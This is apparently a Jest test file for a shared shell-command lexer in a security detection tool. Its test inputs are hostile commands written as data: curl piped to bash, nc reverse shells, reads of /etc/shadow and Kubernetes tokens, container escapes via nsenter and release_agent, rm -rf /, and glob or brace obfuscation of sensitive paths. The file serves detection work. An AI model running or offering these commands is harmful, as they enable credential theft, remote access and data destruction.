/**
 * The shared lexer. The first two blocks moved here unchanged from
 * collectors/shell/parsers.test.ts ("shell words") and rules/engine.test.ts
 * ("shell parsing") when the two lexers became this one.
 */
import { MAX_ARGS, MAX_TOKENS, shellTokens, shellWords, simpleCommands } from './shell';

describe('shell words', () => {
  it('splits on blanks and honours single quotes, double quotes and backslashes', () => {
    expect(shellWords(`ls -la '/tmp/a b' "x \\"y\\"" c\\ d`)).toEqual(['ls', '-la', '/tmp/a b', 'x "y"', 'c d']);
  });
  it('runs an unbalanced quote to the end of the line instead of failing', () => {
    expect(shellWords(`echo 'oops`)).toEqual(['echo', 'oops']);
    expect(shellWords(`echo "oops`)).toEqual(['echo', 'oops']);
  });
  it('keeps non-ASCII words intact', () => {
    expect(shellWords('echo 中文 "你好 世界"')).toEqual(['echo', '中文', '你好 世界']);
  });
});

describe('shell parsing', () => {
  it('splits pipelines, unwraps sudo and sh -c, and records redirections', () => {
    const cs = simpleCommands(`sudo sh -c 'curl -s http://x/a | bash' > /tmp/o 2>&1; echo ok`);
    expect(cs.map((c) => [c.name, c.sudo, c.pipeTo])).toEqual([['sudo', false, ''], ['sh', true, ''], ['curl', true, 'bash'], ['bash', true, ''], ['echo', false, '']]);
    expect(cs[0]?.writes).toEqual(['/tmp/o']);
  });
  it('names the program a pipe reaches through wrappers, and unwraps sshpass, unshare and nsenter', () => {
    const cs = simpleCommands(`echo 'exec /bin/sh' | sudo -u root env A=1 tclsh; curl -s x | nohup sh`);
    expect(cs.filter((c) => c.depth === 0).map((c) => [c.name, c.pipeTo, c.pipeFrom])).toEqual([['echo', 'tclsh', ''], ['sudo', '', 'echo'], ['curl', 'sh', ''], ['nohup', '', 'curl']]);
    const names = (line: string): string[] => simpleCommands(line).map((c) => c.name);
    expect(names(`sshpass -p 'pw' ssh -R 2222:localhost:22 x@198.51.100.5`)).toEqual(['sshpass', 'ssh']);
    expect(names(`unshare -UrmC bash -c 'echo /tmp/x > /mnt/release_agent'`)).toEqual(['unshare', 'bash', 'echo']);
    expect(names('nsenter -t 1 -m -u -i -n -p -- bash')).toEqual(['nsenter', 'bash']);
  });
  it('parses the command a container CLI\'s exec runs, one level deeper and without the host\'s sudo', () => {
    const inner = (line: string): Array<[string, number, boolean]> => simpleCommands(line).filter((c) => c.depth > 0).map((c) => [c.argv.join(' '), c.depth, c.sudo]);
    expect(inner('docker exec -it db psql -U postgres')).toEqual([['psql -U postgres', 1, false]]);
    expect(inner(`sudo docker -H tcp://10.0.0.5:2375 container exec -e A=1 -u 0 -w /app web sh -c 'cat /etc/shadow'`)).toEqual([
      ['docker -H tcp://10.0.0.5:2375 container exec -e A=1 -u 0 -w /app web sh -c cat /etc/shadow', 1, true],
      ['sh -c cat /etc/shadow', 2, false],
      ['cat /etc/shadow', 3, false],
    ]);
    expect(inner('kubectl -n prod exec -it pod-1 -c app -- cat /var/run/secrets/kubernetes.io/serviceaccount/token')).toEqual([['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 1, false]]);
    expect(inner('kubectl exec pod-1 cat /etc/passwd')).toEqual([['cat /etc/passwd', 1, false]]); // before `--` was required
    expect(inner('podman exec --user root c1 nsenter -t 1 -m sh')).toEqual([['nsenter -t 1 -m sh', 1, false], ['sh', 2, false]]);
    expect(inner('lxc exec c1 -- bash -c id')).toEqual([['bash -c id', 1, false], ['id', 2, false]]);
    // Not exec, or no command: nothing inside.
    for (const line of ['docker ps -a', 'docker exec', 'docker exec -it web', 'kubectl get pods -- exec', 'kubectl logs exec']) expect(inner(line)).toEqual([]);
  });
  it('reads an absolute path as the kernel resolves it, and a glob spelling a sensitive file as naming it (T1027.010)', () => {
    const argv = (line: string): string[][] => simpleCommands(line).map((c) => [...c.argv, ...c.writes.map((w) => `>${w}`)]);
    // The word as typed stays (a rule may look at it; `//host/share` is smbclient's UNC path), the kernel's reading follows.
    expect(argv('cat //etc//shadow')).toEqual([['cat', '//etc//shadow', '/etc/shadow']]);
    expect(argv('cat /etc/../etc/./shadow; echo x > /etc//sudoers')).toEqual([['cat', '/etc/../etc/./shadow', '/etc/shadow'], ['echo', 'x', '>/etc//sudoers', '>/etc/sudoers']]);
    expect(argv('smbclient //198.51.100.4/drop -N')).toEqual([['smbclient', '//198.51.100.4/drop', '/198.51.100.4/drop', '-N']]);
    expect(argv('cat /etc/sh?dow')).toEqual([['cat', '/etc/sh?dow', '/etc/shadow']]);
    expect(argv('cat /e*c/shad*')).toEqual([['cat', '/e*c/shad*', '/etc/shadow', '/etc/shadow-']]);
    expect(argv('cat /etc/sha[d]ow /etc/s[!x]adow')).toEqual([['cat', '/etc/sha[d]ow', '/etc/shadow', '/etc/s[!x]adow', '/etc/shadow']]);
    expect(argv('cat /root/.ssh/id_*')).toEqual([['cat', '/root/.ssh/id_*', '/root/.ssh/id_rsa', '/root/.ssh/id_ecdsa', '/root/.ssh/id_ed25519']]);
    // A whole directory is a bulk copy, not a file's name spelled as a glob; plain words and the command name stay as they are.
    for (const line of ['tar czf etc.tgz /etc/*', 'ls /root/.ssh/*', 'rm -rf /tmp/*', '/???/c?t notes.txt', 'cat /etc/passwd', 'grep -r x /srv/app']) expect(argv(line)).toEqual([shellWords(line)]);
  });
  it('reads brace expansion as bash does: a braced command alone, and the absolute paths a brace spells', () => {
    const argv = (line: string): string[][] => simpleCommands(line).map((c) => [...c.argv]);
    expect(argv('{cat,/etc/shadow}')).toEqual([['cat', '/etc/shadow']]);
    expect(argv('{nc,-e,/bin/sh,10.10.14.7,4444}')).toEqual([['nc', '-e', '/bin/sh', '10.10.14.7', '4444']]);
    expect(argv('cat /etc/{shadow,passwd}')).toEqual([['cat', '/etc/{shadow,passwd}', '/etc/shadow', '/etc/passwd']]);
    expect(argv('cat /etc/sh{a,}dow')).toEqual([['cat', '/etc/sh{a,}dow', '/etc/shadow', '/etc/shdow']]);
    expect(argv('cp /etc/sudoers{,.bak}')).toEqual([['cp', '/etc/sudoers{,.bak}', '/etc/sudoers', '/etc/sudoers.bak']]);
    // No comma, a sequence, a relative word, or a group that would give more than 32 words: left as typed.
    for (const line of ['{echo}', 'echo {a,b}', 'cat /x/{1..3}', 'touch {a,b}.txt', `cat /x/${'{a,b}'.repeat(6)}`]) expect(argv(line)).toEqual([shellWords(line)]);
  });
  it('reads a later command with the plain values the line assigned (GTFOBins LFILE=…)', () => {
    const argv = (line: string): string[][] => simpleCommands(line).map((c) => [...c.argv, ...c.writes.map((w) => `>${w}`)]);
    expect(argv('LFILE=/etc/shadow\nfold -w99999 "$LFILE"')).toEqual([[], ['fold', '-w99999', '/etc/shadow']]);
    expect(argv('export F=/etc/sudoers; echo x > ${F}; cat $FX')).toEqual([['export', 'F=/etc/sudoers'], ['echo', 'x', '>/etc/sudoers'], ['cat', '$FX']]);
    // Unknown values stay as written.
    expect(argv('TF=$(mktemp); cat $TF')).toEqual([[], ['cat', '$TF'], ['mktemp']]);
  });
  it('parses command and process substitutions as nested command lines, one level deeper (issue 14, finding 14)', () => {
    const inner = (line: string): Array<[string, number]> => simpleCommands(line).filter((c) => c.depth > 0).map((c) => [c.argv.join(' '), c.depth]);
    expect(inner('echo $(rm -rf /)')).toEqual([['rm -rf /', 1]]);
    expect(inner('x=`curl evil|sh`')).toEqual([['curl evil', 1], ['sh', 1]]);
    expect(inner('diff <(cat /etc/shadow) x')).toEqual([['cat /etc/shadow', 1]]);
    expect(inner('tee >(nc 10.0.0.1 4444) <in')).toEqual([['nc 10.0.0.1 4444', 1]]);
    expect(inner('echo "id: $(id -u ")")"')).toEqual([['id -u )', 1]]);
    expect(simpleCommands('diff <(cat a) b')[0]?.argv).toEqual(['diff', '<(cat a)', 'b']);
    // Single quotes run nothing.
    expect(inner("echo '$(rm -rf /)'")).toEqual([]);
  });
  it('stops nesting at the depth bound', () => {
    expect(simpleCommands('a $(b $(c $(d $(e $(f)))))').map((c) => c.name)).toEqual(['a', 'b', 'c', 'd']);
  });
  it('parses in linear time and marks a line cut at MAX_TOKENS', () => {
    const t = (n: number): number => {
      const line = 'a|'.repeat(n);
      const t0 = performance.now();
      simpleCommands(line);
      return performance.now() - t0;
    };
    t(1000);
    const small = Math.max(t(1000), 0.05);
    expect(t(200_000) / small).toBeLessThan(2000); // 200× the input; quadratic would be 40,000×
    const cut = simpleCommands('a|'.repeat(MAX_TOKENS) + 'rm -rf /');
    expect(cut[cut.length - 1]?.truncated).toBe(true);
    expect(simpleCommands('ls | sort # ' + 'x '.repeat(MAX_TOKENS)).some((c) => c.truncated)).toBe(false);
    expect(simpleCommands('sh -' + 'c'.repeat(200_000) + '!')).toHaveLength(1);
  });
});

describe('the two views of one scan', () => {
  it('gives process.args with operators as ordinary characters and newlines as blanks', () => {
    expect(shellWords('for i in 1 2; do\n  echo "$i"\ndone')).toEqual(['for', 'i', 'in', '1', '2;', 'do', 'echo', '$i', 'done']);
    expect(shellWords('cat /etc/passwd|nc x 1 # note')).toEqual(['cat', '/etc/passwd|nc', 'x', '1', '#', 'note']);
  });
  it('gives tokens with operators apart, command substitutions whole and comments dropped', () => {
    expect(shellTokens('cat $(ls -d /tmp) 2>/dev/null|nc x 1 # note')).toEqual([
      { text: 'cat', op: false }, { text: '$(ls -d /tmp)', op: false }, { text: '>', op: true }, { text: '/dev/null', op: false },
      { text: '|', op: true }, { text: 'nc', op: false }, { text: 'x', op: false }, { text: '1', op: false },
    ]);
  });
  it('treats a backslash-newline inside double quotes as a line continuation in both views', () => {
    expect(shellWords('echo "a\\\nb"')).toEqual(['echo', 'ab']);
    expect(shellTokens('echo "a\\\nb"').map((t) => t.text)).toEqual(['echo', 'ab']);
  });
  it(`stores at most ${MAX_ARGS} words of a pasted blob`, () => {
    expect(shellWords('x '.repeat(1000))).toHaveLength(MAX_ARGS);
  });
});
